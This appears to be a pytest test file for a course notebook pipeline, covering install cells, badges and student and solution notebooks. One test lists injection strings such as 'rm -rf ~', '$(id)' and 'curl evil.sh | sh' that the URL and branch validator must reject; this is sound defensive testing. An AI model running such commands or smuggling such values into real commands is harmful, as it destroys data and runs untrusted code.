"""The notebook pipeline: headers, exercise markup, student generation, staleness, pairing."""

import ast
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import jupytext
import nbformat
import nbtools  # tools/, on pytest's pythonpath (pyproject.toml)
import pytest

ROOT = Path(__file__).resolve().parents[2]

DAY = "W0D0_Toy"
SLUG = f"{DAY}/W0D0_Tutorial1"

TOY = """---
jupytext:
  text_representation:
    extension: .md
    format_name: myst
kernelspec:
  display_name: Python 3
  language: python
  name: python3
---

# Tutorial 1: Toy tutorial

Some prose with $x^2$.

## Setup

```{code-cell} ipython3
import math
```

```{code-cell} ipython3
:tags: [exercise-stub, raises-exception, remove-output]

def square(x):
    raise NotImplementedError("Student exercise: return x squared")

square(3)
```

```{code-cell} ipython3
:tags: [exercise-solution, hide-input]

def square(x):
    return x * x

print(square(3))
```

After the exercise.

```{admonition} Where the data come from
:class: note

Downloaded once, then *cached*.
```
"""


@pytest.fixture
def project(tmp_path):
    """A minimal course tree: one day with an intro page (no notebooks) and one tutorial."""
    (tmp_path / "book" / DAY).mkdir(parents=True)
    (tmp_path / "book" / f"{SLUG}.md").write_text(TOY)
    (tmp_path / "book" / DAY / "chapter_intro.md").write_text(
        TOY.replace("# Tutorial 1: Toy tutorial", "# Toy day")
    )
    (tmp_path / "_config.yml").write_text(
        "title: t\nrepository:\n  url: https://github.com/example/course\n  branch: dev\n"
    )
    (tmp_path / "_toc.yml").write_text(
        "format: jb-book\nroot: book/intro\nparts:\n  - caption: W0D0\n    chapters:\n"
        f"      - file: book/{DAY}/chapter_intro\n"
        f"      - file: book/{SLUG}\n        title: 'Tutorial 1: Toy tutorial'\n"
    )
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "nma-dl"\nversion = "1.2.3"\n')
    shutil.copy(ROOT / "jupytext.toml", tmp_path / "jupytext.toml")
    return tmp_path


def _read(path):
    return nbformat.reads(Path(path).read_text(), as_version=4)


def test_repository_urls():
    repo = nbtools.Repository("https://github.com/example/course", "dev")
    assert repo.slug == "example/course"
    assert repo.colab_url("a/b.ipynb") == (
        "https://colab.research.google.com/github/example/course/blob/dev/a/b.ipynb"
    )
    assert repo.kaggle_url("a/b.ipynb").endswith(
        "src=https://raw.githubusercontent.com/example/course/dev/a/b.ipynb"
    )
    # The install cell pins the release tag of the version, not the moving branch.
    assert repo.install_spec("1.2.3") == "nma-dl @ git+https://github.com/example/course@v1.2.3"


@pytest.mark.bad_input
def test_repository_rejects_non_github_url():
    with pytest.raises(ValueError, match="repository url"):
        _ = nbtools.Repository("ftp://example.org/x").slug


@pytest.mark.bad_input
@pytest.mark.parametrize(
    "url, branch",
    [
        ("https://github.com/example/course; rm -rf ~", "main"),
        ("https://github.com/example/course$(id)", "main"),
        ("https://github.com/example", "main"),
        ("https://github.com/example/course", 'main" && curl evil.sh | sh #'),
        ("https://github.com/example/course", "main'; import os; '"),
        ("https://github.com/example/course", "--upgrade"),
        ("https://github.com/example/course", "a..b"),
        ("https://github.com/example/course", "{__import__('os')}"),
    ],
)
def test_repository_refuses_what_could_inject_into_the_install_line(url, branch):
    with pytest.raises(ValueError, match="repository (url|branch)"):
        nbtools.Repository(url, branch)


@pytest.mark.bad_input
def test_config_with_a_bad_branch_is_refused(project):
    config = project / "_config.yml"
    config.write_text(config.read_text().replace("branch: dev", "branch: dev$(whoami)"))
    with pytest.raises(ValueError, match="repository branch"):
        nbtools.build(project)


@pytest.mark.bad_input
@pytest.mark.parametrize("version", ["1.2", "1.2.3; ls", "main", ""])
def test_version_must_be_a_release_number(project, version):
    (project / "pyproject.toml").write_text(f'[project]\nversion = "{version}"\n')
    with pytest.raises(ValueError, match="version must look like 1.2.3"):
        nbtools.load_version(project)
    with pytest.raises(ValueError, match="version must look like 1.2.3"):
        nbtools.Repository("https://github.com/a/b").install_spec(version)


def test_version_is_read_from_pyproject():
    import tomllib

    project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
    assert nbtools.load_version() == project["version"]


def test_tutorial_slugs_follow_toc(project):
    """Only the tutorial pages of a day get notebooks, not its intro."""
    assert nbtools.tutorial_slugs(project) == [SLUG]
    assert nbtools.is_tutorial("W1D5_DeepLearning/W1D5_Tutorial1")
    assert not nbtools.is_tutorial("W1D5_DeepLearning/W1D5_Outro")
    assert not nbtools.is_tutorial("W1D5_DeepLearning/further_reading")


def test_build_writes_three_views_and_is_idempotent(project):
    written = nbtools.build(project)
    names = sorted(p.relative_to(project).as_posix() for p in written)
    assert names == [
        f"book/{SLUG}.md",
        f"notebooks/reference/{SLUG}.ipynb",
        f"notebooks/solutions/{SLUG}.ipynb",
        f"notebooks/student/{SLUG}.ipynb",
    ]
    snapshot = {p: p.read_bytes() for p in project.rglob("*") if p.is_file()}
    assert nbtools.build(project) == []
    assert {p: p.read_bytes() for p in project.rglob("*") if p.is_file()} == snapshot
    assert nbtools.stale(project) == []


def test_header_sits_under_title_with_badges_and_guarded_install(project):
    nbtools.build(project)
    ref = _read(project / f"notebooks/reference/{SLUG}.ipynb")
    assert ref.cells[0].source == "# Tutorial 1: Toy tutorial"
    badges, install = ref.cells[1], ref.cells[2]
    assert badges.metadata["tags"] == ["nma-header"]
    for view in ("student", "solutions"):
        path = f"example/course/blob/dev/notebooks/{view}/{SLUG}.ipynb"
        assert f"https://colab.research.google.com/github/{path}" in badges.source
    assert "notebooks/reference" not in badges.source  # the reference stops at a stub in Colab
    assert "Open in Kaggle" in badges.source
    assert install.cell_type == "code"
    assert 'NMA_DL_VERSION = "1.2.3"' in install.source
    [pip_line] = [line for line in install.source.splitlines() if "%pip" in line]
    assert pip_line.strip() == (
        "%pip install --quiet --upgrade 'nma-dl @ git+https://github.com/example/course@v1.2.3'"
    )
    for name in ("torch", "numpy", "ipython", "ipykernel", "ipywidgets"):
        assert name not in pip_line.lower()


def test_install_cell_is_folded_on_the_site_behind_its_first_line(project):
    """The book folds the 30-line install cell; the toggle reads as its first comment line."""
    nbtools.build(project)
    source = jupytext.read(project / f"book/{SLUG}.md", fmt="md:myst")
    ref = _read(project / f"notebooks/reference/{SLUG}.ipynb")
    for nb in (source, ref):
        [install] = [
            c
            for c in nb.cells
            if c.cell_type == "code" and "nma-header" in c.metadata.get("tags", [])
        ]
        assert install.metadata["tags"] == ["nma-header", "hide-input"]
        first = install.source.splitlines()[0]
        assert first == "# Set up: install the course package nma_dl (once per kernel)."
        assert install.metadata["mystnb"] == {"code_prompt_show": first.removeprefix("# ")}
        assert len(install.source.splitlines()) > 20  # the fold hides a long cell
    # The toggle text is a whole sentence (no "{type}" placeholder for MyST-NB to fill in).
    toggle = nbtools.install_toggle(
        nbtools.install_source(nbtools.load_repository(project), "1.2.3")
    )
    assert toggle.endswith(".") and "{" not in toggle


@pytest.mark.parametrize("view", ["student", "solutions"])
def test_install_cell_is_a_colab_form_titled_by_its_first_line(project, view):
    """Colab folds it behind the line the site's toggle shows; no tag hides it elsewhere."""
    nbtools.build(project)
    nb = _read(project / f"notebooks/{view}/{SLUG}.ipynb")
    [install] = [
        c for c in nb.cells if c.cell_type == "code" and "nma-header" in c.metadata.get("tags", [])
    ]
    assert install.metadata == {"cellView": "form", "tags": ["nma-header"]}
    toggle = nbtools.install_toggle(
        nbtools.install_source(nbtools.load_repository(project), "1.2.3")
    )
    assert install.source.splitlines()[0] == f"# @title {toggle}"
    assert "%pip install" in install.source


def test_install_toggle_needs_a_comment_line():
    assert nbtools.install_toggle("#  Install it.\nimport x") == "Install it."
    with pytest.raises(ValueError, match="source: the install cell must open with a comment"):
        nbtools.install_toggle("import x")


def test_a_source_whose_install_cell_is_unfolded_is_stale(project):
    """Dropping the fold from a source (by hand or an old build) is reported and rebuilt."""
    nbtools.build(project)
    path = project / f"book/{SLUG}.md"
    text = path.read_text()
    unfolded = re.sub(
        r"---\nmystnb:\n  code_prompt_show: [^\n]*\ntags: \[nma-header, hide-input\]\n---",
        ":tags: [nma-header]",
        text,
    )
    assert unfolded != text
    path.write_text(unfolded)
    assert f"book/{SLUG}.md: stale (run `python tools/nbtools.py build`)" in nbtools.stale(project)
    nbtools.build(project)
    assert path.read_text() == text


class _FakeShell:
    """Stands in for IPython: records %pip lines and 'installs' by putting a module in place."""

    def __init__(self, installs):
        self.installs = installs  # version the fake pip installs, None for a failing pip
        self.pip_lines = []

    def run_line_magic(self, name, line):
        assert name == "pip"
        self.pip_lines.append(line)
        if self.installs is not None and sys.modules.get("nma_dl") is None:
            # As in a kernel: a module already imported stays loaded, at its old version.
            sys.modules["nma_dl"] = type(sys)("nma_dl")
            sys.modules["nma_dl"].__version__ = self.installs


def _run_install_cell(monkeypatch, installed, loaded, pip_installs):
    """Execute the generated install cell with a fake pip, metadata and module table."""
    import importlib.metadata

    from IPython.core.inputtransformer2 import TransformerManager

    repo = nbtools.Repository("https://github.com/example/course", "dev")
    code = TransformerManager().transform_cell(nbtools.install_source(repo, "1.2.3"))

    def version(name):
        assert name == "nma-dl"
        if installed is None:
            raise importlib.metadata.PackageNotFoundError(name)
        return installed

    monkeypatch.setattr(importlib.metadata, "version", version)
    if loaded is None:
        monkeypatch.setitem(sys.modules, "nma_dl", None)  # `import nma_dl` fails
    else:
        fake = type(sys)("nma_dl")
        fake.__version__ = loaded
        monkeypatch.setitem(sys.modules, "nma_dl", fake)
    shell = _FakeShell(pip_installs)
    exec(compile(code, "<install cell>", "exec"), {"get_ipython": lambda: shell})
    return shell.pip_lines


def test_install_cell_installs_the_release_when_missing(monkeypatch):
    lines = _run_install_cell(monkeypatch, installed=None, loaded=None, pip_installs="1.2.3")
    assert lines == [
        "install --quiet --upgrade 'nma-dl @ git+https://github.com/example/course@v1.2.3'"
    ]


def test_install_cell_upgrades_an_older_release(monkeypatch):
    lines = _run_install_cell(monkeypatch, installed="1.1.9", loaded=None, pip_installs="1.2.3")
    assert len(lines) == 1 and "@v1.2.3" in lines[0]


@pytest.mark.parametrize("installed", ["1.2.3", "1.3.0", "2.0.0+dev"])
def test_install_cell_runs_pip_once_per_kernel_only(monkeypatch, installed):
    assert _run_install_cell(monkeypatch, installed, loaded=installed, pip_installs=None) == []


def test_install_cell_stops_with_a_clear_message_when_pip_failed(monkeypatch):
    with pytest.raises(RuntimeError, match="nma_dl 1.2.3 could not be installed.*pip's message"):
        _run_install_cell(monkeypatch, installed=None, loaded=None, pip_installs=None)


def test_install_cell_asks_for_a_restart_when_an_old_version_is_loaded(monkeypatch):
    with pytest.raises(RuntimeError, match="kernel has 1.1.0: restart the runtime"):
        _run_install_cell(monkeypatch, installed="1.1.0", loaded="1.1.0", pip_installs="1.2.3")


def test_student_notebook_has_no_solution_code(project):
    nbtools.build(project)
    student = _read(project / f"notebooks/student/{SLUG}.ipynb")
    code = "\n".join(c.source for c in student.cells if c.cell_type == "code")
    assert "return x * x" not in code
    assert 'raise NotImplementedError("Student exercise' in code
    blocks = [
        c.source for c in student.cells if c.cell_type == "markdown" and "<details>" in c.source
    ]
    assert len(blocks) == 1 and "return x * x" in blocks[0]
    assert "```python" in blocks[0] and "<summary>" in blocks[0]
    badges = student.cells[1].source
    assert f"notebooks/student/{SLUG}.ipynb" in badges and "notebooks/reference" not in badges


def test_solutions_notebook_runs_under_a_plain_run_all(project):
    """Colab ignores raises-exception: the 'with solutions' notebook has no stub left as code."""
    nbtools.build(project)
    nb = _read(project / f"notebooks/solutions/{SLUG}.ipynb")
    code = "\n".join(c.source for c in nb.cells if c.cell_type == "code")
    assert "NotImplementedError" not in code and "return x * x" in code
    assert not any("raises-exception" in c.metadata.get("tags", []) for c in nb.cells)
    [stub] = [c for c in nb.cells if "The exercise as the student" in c.source]
    assert stub.cell_type == "markdown" and "NotImplementedError" in stub.source
    assert nbtools.run_all_problems(nb) == []


def test_a_cell_that_would_stop_run_all_is_reported(project):
    source = project / f"book/{SLUG}.md"
    source.write_text(
        source.read_text().replace(
            "```{code-cell} ipython3\nimport math",
            "```{code-cell} ipython3\n:tags: [raises-exception]\n\nimport math",
        )
    )
    problems = nbtools.stale(project)
    assert any("tagged raises-exception; a plain Run all stops there" in p for p in problems)


def test_directives_become_markdown_in_student_and_solutions_notebooks(project):
    nbtools.build(project)
    for view in ("student", "solutions"):
        text = "\n".join(c.source for c in _read(project / f"notebooks/{view}/{SLUG}.ipynb").cells)
        assert "{admonition}" not in text and ":class:" not in text
        assert "> **Where the data come from**\n>\n> Downloaded once, then *cached*." in text
    # The reference notebook is the exact pair of the source: the book renders the directive.
    ref = "\n".join(c.source for c in _read(project / f"notebooks/reference/{SLUG}.ipynb").cells)
    assert "```{admonition} Where the data come from" in ref


@pytest.mark.parametrize(
    "myst, markdown",
    [
        ("```{note}\nBody.\n```", "> **Note**\n>\n> Body."),
        (
            ":::{warning} Careful\n:class: x\nOne.\n\nTwo.\n:::",
            "> **Warning: Careful**\n>\n> One.\n>\n> Two.",
        ),
        (
            "````{admonition} Outer\n```{tip}\nIn.\n```\n````",
            "> **Outer**\n>\n> > **Tip**\n> >\n> > In.",
        ),
        ("```{math}\nx^2\n```", "$$\nx^2\n$$"),
        (
            "````{note}\nRun:\n```python\nx = 1\n```\nThen.\n````\nAfter.",
            "> **Note**\n>\n> Run:\n> ```python\n> x = 1\n> ```\n> Then.\nAfter.",
        ),
        ("```{code-block} python\nx = 1\n```", "```python\nx = 1\n```"),
        (
            "```{dropdown} More\nHidden.\n```",
            "<details>\n<summary>More</summary>\n\nHidden.\n\n</details>",
        ),
        (
            "Plain *text* with ```python\ncode\n``` stays.",
            "Plain *text* with ```python\ncode\n``` stays.",
        ),
        ("```python\nx = 1\n```\n", "```python\nx = 1\n```\n"),
    ],
)
def test_myst_to_markdown(myst, markdown):
    assert nbtools.myst_to_markdown(myst) == markdown


@pytest.mark.parametrize(
    "myst",
    [
        "````markdown\n```{note}\nBody.\n```\n````",  # a directive shown as an example
        "~~~\n:::{tip}\nIn.\n:::\n~~~",
        "<div>\n```{warning}\nInside raw HTML.\n```\n</div>",
    ],
)
def test_myst_to_markdown_reads_fences_as_the_book_does(myst):
    """A fence inside a code block or raw HTML is text there, for MyST too: it stays as written."""
    assert nbtools.myst_to_markdown(myst) == myst


@pytest.mark.parametrize("text", [None, b"```{note}\nBody.\n```"])
def test_myst_to_markdown_refuses_what_is_not_text(text):
    with pytest.raises(TypeError, match=r"^text: expected a cell's Markdown as a str"):
        nbtools.myst_to_markdown(text)


def test_run_command_names_a_missing_notebook(tmp_path):
    """``python tools/nbtools.py run`` with a wrong path: one line, no traceback."""
    proc = subprocess.run(
        [sys.executable, str(ROOT / "tools" / "nbtools.py"), "run", str(tmp_path / "no.ipynb")],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr
    assert "notebook: no file" in proc.stderr


def test_jupytext_sync_of_an_unchanged_source_changes_nothing(project):
    """The generated pair is exactly what jupytext writes: a sync, either way, is a no-op."""
    import os
    import time

    source = project / f"book/{SLUG}.md"
    source.write_text(
        source.read_text().replace(
            "```{code-cell} ipython3\nimport math",
            "```{code-cell} ipython3\n---\ntags: [remove-input]\nmystnb:\n  image:\n"
            "    alt: A figure.\n---\nimport math",
        )
    )
    nbtools.build(project)
    ref = project / f"notebooks/reference/{SLUG}.ipynb"
    before = {p: p.read_bytes() for p in (source, ref)}
    for newer in (source, ref):
        later = time.time() + 10
        os.utime(newer, (later, later))
        subprocess.run(
            [sys.executable, "-m", "jupytext", "--sync", str(newer.relative_to(project))],
            cwd=project,
            check=True,
            capture_output=True,
        )
        assert {p: p.read_bytes() for p in (source, ref)} == before, newer
    assert "alt: A figure." in source.read_text()


def test_generated_notebooks_carry_no_outputs(project):
    nbtools.build(project)
    for view in ("reference", "student", "solutions"):
        nb = json.loads((project / f"notebooks/{view}/{SLUG}.ipynb").read_text())
        for cell in nb["cells"]:
            assert cell.get("outputs", []) == [] and cell.get("execution_count") is None


def test_stale_notebook_and_out_of_sync_source_are_reported(project):
    nbtools.build(project)
    student = project / f"notebooks/student/{SLUG}.ipynb"
    student.write_text(student.read_text().replace("Toy tutorial", "Edited by hand"))
    source = project / f"book/{SLUG}.md"
    source.write_text(source.read_text().replace("After the exercise.", "New prose."))
    problems = "\n".join(nbtools.stale(project))
    assert f"notebooks/student/{SLUG}.ipynb: stale" in problems
    assert f"notebooks/reference/{SLUG}.ipynb: stale" in problems
    assert nbtools.main.__name__ == "main"


def test_markup_problems_are_reported(project):
    source = project / f"book/{SLUG}.md"
    source.write_text(
        source.read_text().replace(
            ":tags: [exercise-solution, hide-input]", ":tags: [exercise-solution]"
        )
    )
    problems = nbtools.stale(project)
    assert any("solution cell" in p and "hide-input" in p for p in problems)
    source.write_text(TOY.replace(":tags: [exercise-solution, hide-input]\n", ""))
    assert any("not followed by" in p for p in nbtools.stale(project))


def test_jupytext_sync_keeps_exercise_tags(project):
    """Round trip through the project's jupytext.toml pairing: md -> ipynb -> md."""
    nbtools.build(project)
    ref = project / f"notebooks/reference/{SLUG}.ipynb"
    ref.unlink()
    subprocess.run(
        [sys.executable, "-m", "jupytext", "--sync", f"book/{SLUG}.md"],
        cwd=project,
        check=True,
        capture_output=True,
    )
    paired = _read(ref)
    tags = [c.metadata.get("tags", []) for c in paired.cells]
    assert list(nbtools.STUB_TAGS) in tags and list(nbtools.SOLUTION_TAGS) in tags
    # Back again: edit the notebook, sync, and the source still carries every tag.
    paired.cells[-1].source = "Edited in Jupyter."
    nbformat.write(paired, ref)
    (project / f"book/{SLUG}.md").touch()
    import os
    import time

    later = time.time() + 5
    os.utime(ref, (later, later))
    subprocess.run(
        [sys.executable, "-m", "jupytext", "--sync", str(ref.relative_to(project))],
        cwd=project,
        check=True,
        capture_output=True,
    )
    md = (project / f"book/{SLUG}.md").read_text()
    assert "Edited in Jupyter." in md
    assert ":tags: [exercise-stub, raises-exception, remove-output]" in md
    assert ":tags: [exercise-solution, hide-input]" in md


@pytest.mark.parametrize("slug", nbtools.tutorial_slugs())
def test_real_sources_round_trip_with_tags(slug, tmp_path):
    """Every tutorial of the course keeps its exercise tags through a jupytext round trip."""
    src = ROOT / "book" / f"{slug}.md"
    nb = jupytext.read(src)
    again = jupytext.reads(
        jupytext.writes(jupytext.reads(jupytext.writes(nb, "ipynb"), "ipynb"), "md:myst"),
        "md:myst",
    )
    before = [c.metadata.get("tags", []) for c in nb.cells]
    after = [c.metadata.get("tags", []) for c in again.cells]
    assert before == after
    assert any(nbtools.STUB in t for t in before), f"{slug} has no exercise"
    assert nbtools.check_exercise_tags(nb, slug) == []


def test_committed_notebooks_are_up_to_date():
    """Fails when a source changed and `python tools/nbtools.py build` was not run."""
    assert nbtools.stale() == []


def test_toc_documents_lists_root_then_files_once():
    toc = {
        "format": "jb-book",
        "root": "book/intro",
        "parts": [
            {"chapters": [{"file": "book/D1/a.md"}, {"file": "book/D1/b"}]},
            {"chapters": [{"file": "book/D1/a"}]},
        ],
    }
    assert nbtools.toc_documents(toc) == ["book/intro", "book/D1/a", "book/D1/b"]


def test_orphan_notebooks_are_reported(project):
    """A notebook no tutorial generates (e.g. left behind by a rename) is stale."""
    nbtools.build(project)
    old = project / "notebooks/student/old_name.ipynb"
    old.write_text((project / f"notebooks/student/{SLUG}.ipynb").read_text())
    problems = nbtools.stale(project)
    assert problems == [
        "notebooks/student/old_name.ipynb: generated from no tutorial of _toc.yml (delete it)"
    ]


def test_tutorial_titles_carry_their_number_and_match_the_toc(project):
    nbtools.build(project)
    assert nbtools.layout_problems(project) == []
    toc = project / "_toc.yml"
    toc.write_text(toc.read_text().replace("Tutorial 1: Toy tutorial", "Tutorial 1: Toy"))
    [problem] = nbtools.layout_problems(project)
    assert "differs from its _toc.yml title 'Tutorial 1: Toy'" in problem
    toc.write_text(toc.read_text().replace("Tutorial 1: Toy", "Toy tutorial"))
    source = project / f"book/{SLUG}.md"
    source.write_text(source.read_text().replace("# Tutorial 1: Toy tutorial", "# Toy tutorial"))
    [problem] = nbtools.layout_problems(project)
    assert "does not start with 'Tutorial 1: '" in problem
    assert any("does not start with" in p for p in nbtools.stale(project))


def test_course_layout():
    """One folder per day; its tutorials are named after it; notebooks mirror the folders."""
    slugs = nbtools.tutorial_slugs()
    assert slugs, "no tutorial in _toc.yml"
    for slug in slugs:
        day, name = slug.split("/")
        assert name.startswith(day.split("_")[0] + "_Tutorial"), slug
        assert (ROOT / "book" / f"{slug}.md").is_file()
        for folder in (nbtools.REFERENCE_DIR, nbtools.STUDENT_DIR, nbtools.SOLUTIONS_DIR):
            assert (ROOT / folder / f"{slug}.ipynb").is_file()
    days = [slug.split("/")[0] for slug in slugs]
    assert days == sorted(days, key=lambda d: [int(n) for n in re.findall(r"\d+", d)[:2]])
    assert nbtools.layout_problems() == []


LINKS_REPO = nbtools.Repository(url="https://github.com/o/r", branch="main")
COLAB = "https://colab.research.google.com/github/o/r/blob/main/notebooks"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[T2](W1D5_Tutorial2.md)", f"[T2]({COLAB}/student/W1D5_DL/W1D5_Tutorial2.ipynb)"),
        ("[T2](W1D5_Tutorial2.md#sec-1)", f"[T2]({COLAB}/student/W1D5_DL/W1D5_Tutorial2.ipynb)"),
        (
            "[MLP](../W1D3_MLP/W1D3_Tutorial1.md)",
            f"[MLP]({COLAB}/student/W1D3_MLP/W1D3_Tutorial1.ipynb)",
        ),
        (
            "[day](chapter_intro.md)",
            "[day](https://github.com/o/r/blob/main/book/W1D5_DL/chapter_intro.md)",
        ),
        ("[home](../intro.md)", "[home](https://github.com/o/r/blob/main/book/intro.md)"),
        ("[docs](https://example.org/page.md)", "[docs](https://example.org/page.md)"),
        ("[sec](#section-2)", "[sec](#section-2)"),
    ],
)
def test_page_links_open_from_a_hosted_notebook(text, expected):
    slug = "W1D5_DL/W1D5_Tutorial1"
    assert nbtools.page_links_for_jupyter(text, LINKS_REPO, slug, nbtools.STUDENT_DIR) == expected


def test_page_links_keep_the_notebook_flavour():
    out = nbtools.page_links_for_jupyter(
        "[T3](W1D5_Tutorial3.md)", LINKS_REPO, "W1D5_DL/W1D5_Tutorial1", nbtools.SOLUTIONS_DIR
    )
    assert out == f"[T3]({COLAB}/solutions/W1D5_DL/W1D5_Tutorial3.ipynb)"


def test_a_page_link_out_of_the_book_is_refused():
    with pytest.raises(ValueError, match="leaves the book"):
        nbtools.page_links_for_jupyter(
            "[x](../../README.md)", LINKS_REPO, "W1D5_DL/W1D5_Tutorial1", nbtools.STUDENT_DIR
        )


@pytest.mark.parametrize("view", ["student", "solutions"])
def test_hosted_notebooks_have_no_relative_page_links(view):
    notebooks = sorted((ROOT / "notebooks" / view).rglob("*.ipynb"))
    assert notebooks
    for path in notebooks:
        nb = nbformat.read(path, as_version=4)
        for cell in nb.cells:
            if cell.cell_type == "markdown":
                assert not re.search(r"\]\((?![a-z]+:)[^)\s]*\.md[)#]", cell.source), path


# --------------------------------------------------------------------------- the tools, the docs


def test_tools_keep_small_files_and_functions():
    """No file of tools/ over 700 lines and no function body over 50, so each reads at once."""
    too_long = []
    for path in sorted((ROOT / "tools").rglob("*")):
        if path.suffix not in (".py", ".js") or "__pycache__" in path.parts:
            continue
        text = path.read_text(encoding="utf-8")
        rel = path.relative_to(ROOT)
        if len(text.splitlines()) > 700:
            too_long.append(f"{rel}: {len(text.splitlines())} lines")
        if path.suffix == ".py":
            too_long += [
                f"{rel}:{node.lineno} {node.name}: {node.end_lineno - node.body[0].lineno + 1}"
                for node in ast.walk(ast.parse(text))
                if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef))
                and node.end_lineno - node.body[0].lineno + 1 > 50
            ]
    assert not too_long, too_long


def test_readme_is_for_students_and_instructors_and_contributing_has_the_rest():
    """The README fits its readers' parts; what authors and maintainers need is in CONTRIBUTING."""
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    contributing = (ROOT / "CONTRIBUTING.md").read_text(encoding="utf-8")
    sections = re.findall(r"^## (.+)$", readme, re.MULTILINE)
    assert sections == [
        "Two commands",
        "For students",
        "For instructors",
        "Grading",
        "Contributing",
        "Licence",
    ]
    # CI (.ci/run) runs the README's test command.
    assert "make book    #" in readme and "make test    #" in readme
    assert "](CONTRIBUTING.md)" in readme
    for section in ("For authors", "Data", "Browser check", "Accessibility", "Benchmark"):
        assert f"\n## {section}\n" in contributing, section
    assert "\n## Releasing\n" in contributing
    # Every tool the docs name exists.
    for path in set(re.findall(r"(?<![\w/])tools/[\w/.]+\w", readme + contributing)):
        assert (ROOT / path).exists(), path
